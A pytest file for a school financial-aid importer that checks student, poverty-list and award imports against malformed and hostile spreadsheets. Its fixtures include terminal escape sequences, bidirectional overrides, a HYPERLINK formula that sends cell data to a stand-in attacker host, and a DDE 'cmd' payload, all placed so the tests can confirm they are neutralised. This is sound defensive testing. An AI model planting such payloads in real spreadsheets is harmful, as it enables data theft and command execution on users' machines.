"""Imports fed what real offices and real attackers send (issue 8): every file here is built by the
test, and each test fails on the importer as it was before."""

from __future__ import annotations

import hashlib
import os
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import func, select

from aidoffice.cli import main
from aidoffice.db.models import (
    AuditEntry,
    Award,
    GroupMembership,
    ImportBatch,
    ListEntry,
    ListSnapshot,
    Policy,
    Student,
)
from aidoffice.domain.idnumber import make_id
from aidoffice.domain.text import CONTROL_CHARACTERS
from aidoffice.importing.report import Action
from aidoffice.importing.service import ImportOptions, run_import
from tests.sheets import CHILD, ENROLLMENT_HEADER, POVERTY_HEADER, enrollment_rows, write_csv, write_xlsx

CODE = "3130624999"
TODAY = date(2026, 11, 22)
H = {name: i for i, name in enumerate(ENROLLMENT_HEADER)}


def rows(n: int = 10, seed: int = 7) -> list[list]:
    return enrollment_rows(n, seed=seed, school_code=CODE)


def do_import(db, path, kind="students", dry_run=False, **kw):
    with db.unit_of_work(actor="资助专干") as s:
        return run_import(s, path, ImportOptions(kind=kind, today=TODAY, **kw), dry_run=dry_run)


def count(db, model=Student) -> int:
    with db.reading() as s:
        return s.scalar(select(func.count()).select_from(model))


# ---- item 1: a column left out must not cost the first student ----------------------------------


def test_a_remembered_column_left_out_never_drops_the_first_student(school_db, tmp_path):
    """With 民族=不导入 remembered, every later import silently lost its first data row."""
    data = rows(6)
    path = write_xlsx(tmp_path / "学籍.xlsx", [["城关中学学生名单"], ENROLLMENT_HEADER, *data])
    first = do_import(school_db, path, mapping={"民族": "不导入", "现住址": "不导入"})
    assert first.rows_read == 6 and first.count(Action.NEW) == 6
    again = do_import(school_db, path)  # the mapping is remembered now
    assert again.rows_read == 6 and again.count(Action.UNCHANGED) == 6
    assert again.layout.header_rows == (1,) and not again.missing


# ---- item 4 and 7: control characters, and bidirectional overrides --------------------------------


def test_control_characters_are_removed_with_the_row_and_column_named(school_db, tmp_path):
    """An escape sequence in 班级 or 监护人 used to reach the ledger, break every export and recolour
    the clerk's terminal; a right-to-left override can make one name display as another."""
    data = rows(3)
    data[0][H["班级"]] = "1班\x1b[31m"
    data[1][H["监护人姓名"]] = "王\u202e五\x00"
    data[2][H["现住址"]] = "龙泉关镇\x7f黑崖沟村\u2066"
    path = write_csv(tmp_path / "学籍.csv", [ENROLLMENT_HEADER, *data], encoding="utf-8")
    report = do_import(school_db, path)
    assert report.count(Action.NEW) == 3
    by_row = report.warnings_by_row
    assert any("班级" in w.reason and "控制字符" in w.reason and "U+001B" in w.reason for w in by_row[2])
    assert any("监护人姓名" in w.reason and "U+202E" in w.reason for w in by_row[3])
    assert any("现住址" in w.reason and "U+007F" in w.reason for w in by_row[4])
    with school_db.reading() as s:
        for student in s.scalars(select(Student)):
            for column in ("class_name", "guardian_name", "current_address", "name"):
                value = getattr(student, column) or ""
                assert not CONTROL_CHARACTERS.search(value), (column, value)


def test_the_command_never_echoes_an_escape_sequence_to_the_terminal(tmp_path, capsys):
    """A name crafted as a terminal command must not retitle or clear the clerk's screen when the command prints it."""
    db = str(tmp_path / "office.db")
    assert main(["--db", db, "init", "--school", "测试中学", "--school-code", CODE]) == 0
    data = rows(2)
    data[0][H["姓名"]] = "张\x1b]0;hacked\x07三"  # a name a terminal would take as a command
    header = [*ENROLLMENT_HEADER, "备\x1b[2J注"]  # an unknown column, quoted in the warnings
    path = write_csv(tmp_path / "学籍.csv", [header, *[[*r, "x"] for r in data]], encoding="utf-8")
    capsys.readouterr()
    assert main(["--db", db, "import", "students", str(path)]) == 0
    out = capsys.readouterr()
    assert "\x1b" not in out.out and "\x1b" not in out.err and "\x07" not in out.out
    assert "控制字符" in out.out


# ---- item 8: lengths ------------------------------------------------------------------------------


def test_a_cell_longer_than_its_column_is_refused_with_row_and_column_and_a_short_quote(db, tmp_path):
    """A 100,000-character 村 went into a 50-character column (PostgreSQL would fail the whole import)
    and the refusal of a long name repeated the whole value."""
    from aidoffice.ledgers.school import setup_school

    with db.unit_of_work() as s:
        setup_school(s, "测试中学", CODE, "测试县")
    other = make_id("130624", date(2013, 9, 9), 45)
    body = [
        ["阜平县", "龙泉关镇", "村" * 100_000, "001", "张大山", "之子", "张小明", CHILD, "男", "2014-03-09",
         "脱贫户", "继续享受政策", "", ""],
        ["阜平县", "城南庄镇", "后堡村", "002", "李四", "之子", "李小四", other, "男", "2013-09-09", "监测户",
         "风险未消除", "", ""],
    ]  # fmt: skip
    path = write_csv(tmp_path / "脱贫户.csv", [POVERTY_HEADER, *body], encoding="utf-8")  # no 32,767 cap
    report = do_import(db, path, kind="list", list_kind="poverty")
    refused = {o.row: o.detail for o in report.rejected}
    assert list(refused) == [2]
    assert "「村」列（C 列）" in refused[2] and "50 字" in refused[2] and "共 100,000 字" in refused[2]
    assert len(refused[2]) < 200
    with db.reading() as s:
        villages = list(s.scalars(select(ListEntry.village)))
    assert villages == ["后堡村"]


def test_every_length_limit_comes_from_the_models():
    """A limit copied by hand drifts from its column; a longer value would then fail a whole import on PostgreSQL."""
    from aidoffice.importing.screening import column_limits

    assert column_limits("students")["class_name"] == Student.__table__.c.class_name.type.length
    assert column_limits("list")["village"] == ListEntry.__table__.c.village.type.length == 50
    assert column_limits("awards")["batch"] == Award.__table__.c.batch.type.length


# ---- item 11: Excel error values --------------------------------------------------------------------


def test_excel_error_values_are_named_never_blank_and_never_replaced_by_the_student_number(
    school_db, tmp_path
):
    """#REF! in the ID cell silently took the ID from the 学籍号; #N/A became “不能为空”."""
    data = rows(4)
    data[0][H["身份证件号"]] = "#REF!"  # openpyxl writes these as error cells, as Excel does
    data[1][H["姓名"]] = "#N/A"
    data[2][H["民族"]] = "#VALUE!"
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    report = do_import(school_db, path)
    by_row = {o.row: o for o in report.outcomes}
    assert by_row[2].action is Action.REFUSED and "Excel 错误值 #REF!" in by_row[2].detail
    assert "身份证件号" in by_row[2].detail and "请在原表中改正" in by_row[2].detail
    assert by_row[3].action is Action.REFUSED and "Excel 错误值 #N/A" in by_row[3].detail
    assert "不能为空" not in by_row[3].detail
    assert by_row[4].action is Action.NEW
    assert any("#VALUE!" in w.reason for w in report.warnings_by_row[4])
    assert by_row[5].action is Action.NEW
    with school_db.reading() as s:
        assert s.scalar(select(func.count()).select_from(Student)) == 2
        assert s.scalar(select(Student.ethnicity).where(Student.name == data[2][H["姓名"]])) is None


# ---- item 12: first-generation IDs ------------------------------------------------------------------


def test_a_15_digit_id_is_named_as_first_generation_and_upgraded_from_the_student_number(school_db, tmp_path):
    """An old 15-digit ID is upgraded from a G 学籍号 when one is given, else refused asking for the 18-digit ID."""
    data = rows(3)
    new = data[0][H["身份证件号"]]
    data[0][H["身份证件号"]] = new[:6] + new[8:17]  # the same person's first-generation number
    data[0][H["出生日期"]] = ""
    data[0][H["全国学籍号"]] = "G" + new
    old2 = data[1][H["身份证件号"]]
    data[1][H["身份证件号"]] = old2[:6] + old2[8:17]
    data[1][H["全国学籍号"]] = ""  # nothing to upgrade it from
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    report = do_import(school_db, path)
    by_row = {o.row: o for o in report.outcomes}
    assert by_row[2].action is Action.NEW and by_row[2].key == new
    assert any("第一代15位" in w.reason and new in w.reason for w in report.warnings_by_row[2])
    assert by_row[3].action is Action.REFUSED and "第一代15位身份证号，请换成18位号码" in by_row[3].detail
    assert "漏抄" not in by_row[3].detail


# ---- item 14: a row three times --------------------------------------------------------------------


def test_a_row_present_three_times_names_how_many_times_and_every_row(school_db, tmp_path):
    """It used to say “出现了两次”, naming two of the three rows."""
    data = rows(4)
    data[2] = list(data[0])
    data[3] = list(data[0])
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    report = do_import(school_db, path)
    for row in (2, 4):
        detail = next(o.detail for o in report.outcomes if o.row == row)
        assert "出现了 3 次（第 2、4、5 行），已按第 5 行导入" in detail
    kept = report.warnings_by_row[5]
    assert any(
        "出现了 3 次（第 2、4、5 行），已按本行导入" in w.reason and "第 2、4 行未导入" in w.reason
        for w in kept
    )
    poverty = [
        ["阜平县", "龙泉关镇", "黑崖沟村", "001", "张大山", "之子", "张小明", CHILD, "男", "2014-03-09", "脱贫户",
         "继续享受政策", "", ""]
    ] * 3  # fmt: skip
    path = write_xlsx(tmp_path / "脱贫户.xlsx", [POVERTY_HEADER, *poverty])
    report = do_import(school_db, path, kind="list", list_kind="poverty")
    assert report.count(Action.NEW) == 1
    assert all("出现了 3 次（第 2、3、4 行），已按第 4 行导入" in o.detail for o in report.rejected)
    assert [o.row for o in report.rejected] == [2, 3]


# ---- item 4 (report) and item 2: the report workbook --------------------------------------------


def _students_db(tmp_path) -> str:
    db = str(tmp_path / "office.db")
    assert main(["--db", db, "init", "--school", "测试中学", "--school-code", CODE]) == 0
    return db


def test_report_naming_the_input_file_is_refused_before_anything(tmp_path, capsys):
    """`--report` naming the input overwrote the clerk's only copy of the list."""
    db = _students_db(tmp_path)
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *rows(3)])
    before = path.read_bytes()
    link = tmp_path / "链接.xlsx"
    os.symlink(path, link)
    spellings = [str(path), str(tmp_path / "." / "学籍.xlsx"), str(link)]
    for spelling in spellings:
        capsys.readouterr()
        assert main(["--db", db, "import", "students", str(path), "--report", spelling]) == 1
        assert "覆盖原表" in capsys.readouterr().err
    assert path.read_bytes() == before
    assert main(["--db", db, "import", "students", str(link), "--report", str(path)]) == 1
    assert path.read_bytes() == before
    from aidoffice.db.engine import Database

    database = Database(db)
    assert count(database) == 0
    database.dispose()


def test_a_report_that_cannot_be_written_leaves_the_database_unchanged(tmp_path, capsys, monkeypatch):
    """The report used to be written after the commit: it failed with exit 3 although the students had
    been written. Now it is written first; if it fails, nothing is."""
    from aidoffice.importing import workbook

    db = _students_db(tmp_path)
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *rows(3)])

    def full_disk(report, out):
        from aidoffice.errors import InputRefused

        raise InputRefused("磁盘已满，报告无法保存。", file=str(out))

    monkeypatch.setattr(workbook, "write_report", full_disk)
    assert main(["--db", db, "import", "students", str(path), "--report", str(tmp_path / "结果.xlsx")]) == 1
    from aidoffice.db.engine import Database

    database = Database(db)
    assert count(database) == 0
    database.dispose()


def test_the_report_writes_planted_formulas_as_text_and_ids_as_text(tmp_path):
    """=HYPERLINK(…) in 监护人 or 现住址 was written to the report as a live formula."""
    db = _students_db(tmp_path)
    data = rows(3)
    data[0][H["监护人姓名"]] = '=HYPERLINK("http://evil.example/"&A1,"点我")'
    data[1][H["现住址"]] = "=cmd|' /C calc'!A0"
    data[2][H["班级"]] = "2班\x1b[31m"
    path = write_csv(tmp_path / "学籍.csv", [ENROLLMENT_HEADER, *data], encoding="utf-8")
    out = tmp_path / "结果.xlsx"
    assert main(["--db", db, "import", "students", str(path), "--report", str(out)]) == 0
    ws = load_workbook(out)["逐行结果"]
    guardian = ws.cell(2, H["监护人姓名"] + 1)
    assert guardian.data_type == "s" and guardian.value == data[0][H["监护人姓名"]]
    address = ws.cell(3, H["现住址"] + 1)
    assert address.data_type == "s" and address.value == data[1][H["现住址"]]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert not isinstance(cell.value, str) or "\x1b" not in cell.value
    id_cell = ws.cell(2, H["身份证件号"] + 1)
    assert (
        id_cell.data_type == "s"
        and id_cell.number_format == "@"
        and id_cell.value == data[0][H["身份证件号"]]
    )


# ---- item 10: every reader failure is a refusal -----------------------------------------------------


def test_a_corrupt_workbook_is_exit_status_1_with_a_chinese_message(tmp_path, capsys):
    """A damaged workbook is an input problem: the clerk needs its name and 损坏, not an "unexpected error"."""
    from tests.sheets import corrupt_member

    db = _students_db(tmp_path)
    path = write_xlsx(tmp_path / "坏表.xlsx", [ENROLLMENT_HEADER, *rows(200)])
    corrupt_member(path)
    capsys.readouterr()
    assert main(["--db", db, "import", "students", str(path)]) == 1
    err = capsys.readouterr().err
    assert "坏表.xlsx" in err and "损坏" in err and "意外错误" not in err


# ---- item 9: amounts ------------------------------------------------------------------------------


def _ledger_with(db, tmp_path, data):
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    report = do_import(db, path)
    assert report.count(Action.NEW) == len(data)


AWARD_HEADER = ["姓名", "身份证件号", "资助项目", "学年学期", "金额"]


def test_amounts_that_are_not_amounts_or_absurd_are_refused_row_by_row(school_db, tmp_path):
    """1e308 or a 40-digit amount failed the whole import with InvalidOperation and no row; 1e20 for
    营养餐 was accepted."""
    data = rows(9)
    for r in data:
        r[H["住宿情况"]] = "住校"
    _ledger_with(school_db, tmp_path, data)
    amounts = ["1e308", "inf", "nan", "1" * 40, "-375", "0", "1e20", "5000", "750"]
    body = [
        [r[H["姓名"]], r[H["身份证件号"]], "营养餐" if a in ("1e20", "5000") else "一补", "2026-2027-1", a]
        for r, a in zip(data, amounts, strict=True)
    ]
    path = write_csv(tmp_path / "发放.csv", [AWARD_HEADER, *body], encoding="utf-8")
    report = do_import(school_db, path, kind="awards")
    by_row = {o.row: o for o in report.outcomes}
    for row in range(2, 10):
        assert by_row[row].action is Action.REFUSED, (row, by_row[row])
    assert all("金额" in by_row[r].detail for r in range(2, 10))
    assert "大于 0" in by_row[6].detail and "大于 0" in by_row[7].detail
    assert "最高标准" in by_row[9].detail and "2 倍" in by_row[9].detail
    assert by_row[10].action is Action.NEW
    with school_db.reading() as s:
        assert list(s.scalars(select(Award.amount))) == [Decimal("750.00")]


# ---- issue 9 item 1: national names and students without an ID ---------------------------------


def test_award_lists_in_national_names_resolve_per_student_by_stage_and_boarding(school_db, tmp_path):
    """A list that uses the official name of the living subsidy was refused row by row."""
    data = rows(6)
    boarding = ["住校", "走读", "住校", "走读", "住校", "走读"]
    for r, b in zip(data, boarding, strict=True):
        r[H["住宿情况"]] = b
    _ledger_with(school_db, tmp_path, data)
    names = [
        "义务教育家庭经济困难学生生活补助",
        "义务教育阶段家庭经济困难学生生活补助",
        "家庭经济困难学生生活补助",
        "一补",
        "寄宿生生活补助",
        "营养改善计划膳食补助",
    ]
    body = [
        [r[H["姓名"]], r[H["身份证件号"]], n, "2026-2027学年第一学期", "300" if "营养" in n else ""]
        for r, n in zip(data, names, strict=True)
    ]
    path = write_xlsx(tmp_path / "发放名单.xlsx", [["2026年秋季学期资助发放名单"], AWARD_HEADER, *body])
    report = do_import(school_db, path, kind="awards")
    assert report.count(Action.NEW) == 6, [o.detail for o in report.outcomes]
    with school_db.reading() as s:
        got = dict(
            s.execute(select(Student.id_number, Policy.code).join(Award.student).join(Award.policy)).all()
        )
        amounts = dict(s.execute(select(Student.id_number, Award.amount).join(Award.student)).all())
    ids = [r[H["身份证件号"]] for r in data]
    assert got == {
        ids[0]: "compulsory_living_junior_boarding",
        ids[1]: "compulsory_living_junior_day",
        ids[2]: "compulsory_living_junior_boarding",
        ids[3]: "compulsory_living_junior_day",
        ids[4]: "compulsory_living_junior_boarding",
        ids[5]: "compulsory_nutrition",
    }
    assert amounts[ids[0]] == Decimal("750.00") and amounts[ids[1]] == Decimal("375.00")


def test_a_student_without_an_id_is_imported_with_a_warning_naming_the_row(school_db, tmp_path):
    """A child with no ID is still enrolled; the clerk learns which rows lack it and whether it was recovered."""
    data = rows(3)
    g_id = data[0][H["身份证件号"]]
    data[0][H["身份证件号"]] = ""  # G + ID 学籍号: the ID is recovered
    data[1][H["身份证件号"]] = ""
    data[1][H["全国学籍号"]] = "J" + "2" * 18  # a generated number: no ID to recover
    path = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    report = do_import(school_db, path)
    assert report.count(Action.NEW) == 3, [o.detail for o in report.outcomes]
    w2 = " ".join(w.reason for w in report.warnings_by_row[2])
    w3 = " ".join(w.reason for w in report.warnings_by_row[3])
    assert "身份证件号为空" in w2 and g_id in w2
    assert "身份证件号为空" in w3 and "无法按证件号" in w3
    with school_db.reading() as s:
        keys = dict(s.execute(select(Student.student_no, Student.id_number)).all())
    assert keys["G" + g_id] == g_id and keys["J" + "2" * 18] is None


# ---- issue 7 item 6: every imported row traced to its file ----------------------------------------


def test_an_imported_student_and_award_are_traced_to_the_file_its_hash_the_actor_and_time(
    school_db, tmp_path
):
    """Asked where a student or award came from, the office can name the file, its hash, the clerk and the time."""
    data = rows(3)
    students_file = write_xlsx(tmp_path / "学籍.xlsx", [ENROLLMENT_HEADER, *data])
    do_import(school_db, students_file)
    body = [[r[H["姓名"]], r[H["身份证件号"]], "营养餐", "2026-2027-1", "300"] for r in data]
    awards_file = write_xlsx(tmp_path / "发放.xlsx", [AWARD_HEADER, *body])
    do_import(school_db, awards_file, kind="awards")
    changed = [list(r) for r in data]
    changed[0][H["班级"]] = "9班"
    do_import(school_db, write_xlsx(tmp_path / "学籍2.xlsx", [ENROLLMENT_HEADER, *changed]))
    with school_db.reading() as s:
        student = s.scalars(select(Student).where(Student.id_number == data[1][H["身份证件号"]])).one()
        batch = s.get(ImportBatch, student.batch_id)
        assert batch.file_name == "学籍.xlsx" and batch.kind == "students"
        assert batch.fingerprint == hashlib.sha256(students_file.read_bytes()).hexdigest()
        assert batch.actor == "资助专干" and batch.at is not None and batch.rows == 3
        award = s.scalars(select(Award).where(Award.student_id == student.id)).one()
        award_batch = s.get(ImportBatch, award.batch_id)
        assert award_batch.file_name == "发放.xlsx"
        assert award_batch.fingerprint == hashlib.sha256(awards_file.read_bytes()).hexdigest()
        # an update is traced by its audit entry, which names the second file's batch
        moved = s.scalars(select(Student).where(Student.id_number == data[0][H["身份证件号"]])).one()
        entry = s.scalars(
            select(AuditEntry).where(
                AuditEntry.entity == "student",
                AuditEntry.entity_id == moved.id,
                AuditEntry.action == "update",
            )
        ).one()
        assert s.get(ImportBatch, entry.batch_id).file_name == "学籍2.xlsx"
        assert entry.after["class_name"] == "9班"


def test_list_snapshots_and_memberships_carry_their_batch(school_db, tmp_path):
    """A group membership must lead back to the list file that granted it, so a wrong list can be traced."""
    from tests.sheets import poverty_file

    do_import(school_db, poverty_file(tmp_path), kind="list", list_kind="poverty")
    with school_db.reading() as s:
        snapshot = s.scalars(select(ListSnapshot)).one()
        assert s.get(ImportBatch, snapshot.batch_id).file_name == "脱贫户.xlsx"
        batches = set(s.scalars(select(GroupMembership.batch_id)))
        assert batches == {snapshot.batch_id}
